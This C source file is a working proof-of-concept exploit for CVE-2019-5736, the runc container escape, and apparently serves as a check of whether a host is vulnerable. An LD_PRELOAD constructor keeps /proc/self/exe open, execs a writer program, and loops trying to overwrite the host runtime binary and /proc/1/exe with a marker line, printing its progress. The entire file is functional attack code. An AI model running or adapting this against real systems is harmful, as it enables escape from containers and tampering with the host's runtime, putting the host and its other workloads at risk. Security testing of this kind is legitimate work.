/* CVE-2019-5736: loaded into whatever executes /proc/self/exe in the container (LD_PRELOAD), it keeps the running program
   open, becomes another program, and then writes into what it kept. Prints how far it came. */
#define _GNU_SOURCE
#include <errno.h>
#include <fcntl.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <unistd.h>

__attribute__((unused)) static void attack(const char *path) {
    int worst = 0;
    for (int i = 0; i < 300; i++) {
        int fd = open(path, O_WRONLY);
        if (fd >= 0) {
            int wrote = write(fd, "#!/pwned\n", 9);
            printf("WROTE %s %d\n", path, wrote);
            if (wrote > 0) exit(66);
            close(fd);
        } else {
            worst = errno;
        }
        usleep(1000);
    }
    printf("refused %s: %s\n", path, strerror(worst));
}

#ifdef WRITER
int main(int argc, char **argv) {
    setvbuf(stdout, NULL, _IOLBF, 0);
    for (int i = 1; i < argc; i++) attack(argv[i]);
    return 0;
}
#else
__attribute__((constructor)) static void loaded(void) {
    char exe[256] = "", kept[64];
    if (access("/writer", X_OK) != 0) return;
    int n = readlink("/proc/self/exe", exe, sizeof exe - 1);
    if (n > 0) exe[n] = 0;
    if (strncmp(exe, "/writer", 7) == 0) return;
    int fd = open("/proc/self/exe", O_RDONLY);
    dprintf(1, "inside %s, kept %s\n", exe, fd >= 0 ? "open" : strerror(errno));
    snprintf(kept, sizeof kept, "/proc/self/fd/%d", fd);
    execl("/writer", "/writer", kept, "/proc/1/exe", (char *)0);
    dprintf(1, "no writer: %s\n", strerror(errno));
}
#endif
